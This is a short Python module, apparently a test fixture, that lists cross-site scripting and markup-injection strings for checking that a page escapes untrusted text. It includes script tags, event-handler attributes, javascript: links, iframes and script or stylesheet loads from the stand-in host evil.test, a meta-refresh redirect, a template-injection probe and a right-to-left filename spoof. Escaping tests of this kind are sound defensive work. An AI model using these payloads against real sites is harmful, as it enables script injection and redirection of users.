"""Strings that would run, fetch or break out, were a page to take them for anything but text."""

from __future__ import annotations

RUN = 'document.title="RAN"'
NASTY = [
    f"<script>{RUN}</script>",
    f"<img src=//evil.test/x onerror='{RUN}'>",
    f"\"><svg onload='{RUN}'>",
    f"' autofocus tabindex=0 onfocus='{RUN}' x='",
    "</title><script src=http://evil.test/a.js></script>",
    "</style><style>*{background:url(http://evil.test/b)}</style>",
    f"</svg></figure><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=http://evil.test/c></iframe>",
    "<base href=http://evil.test/><link rel=stylesheet href=d.css>",
    '<meta http-equiv="refresh" content="0;url=http://evil.test/e">',
    f"<a href='javascript:{RUN}'>click</a>",
    f"]]><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'/>",
    f"--><script>{RUN}</script><!--",
    "<object data=http://evil.test/f></object><embed src=http://evil.test/g>",
    "{{ 7 * 7 }}{% raw %}",
    "$\\frac{1}{$",
    "&lt;b&gt; &amp; \x00\x08\x1b[31m",
    "\u202egpj.exe",
    "&#60;script&#62;",
    "<form action=http://evil.test/h><button autofocus>",
]
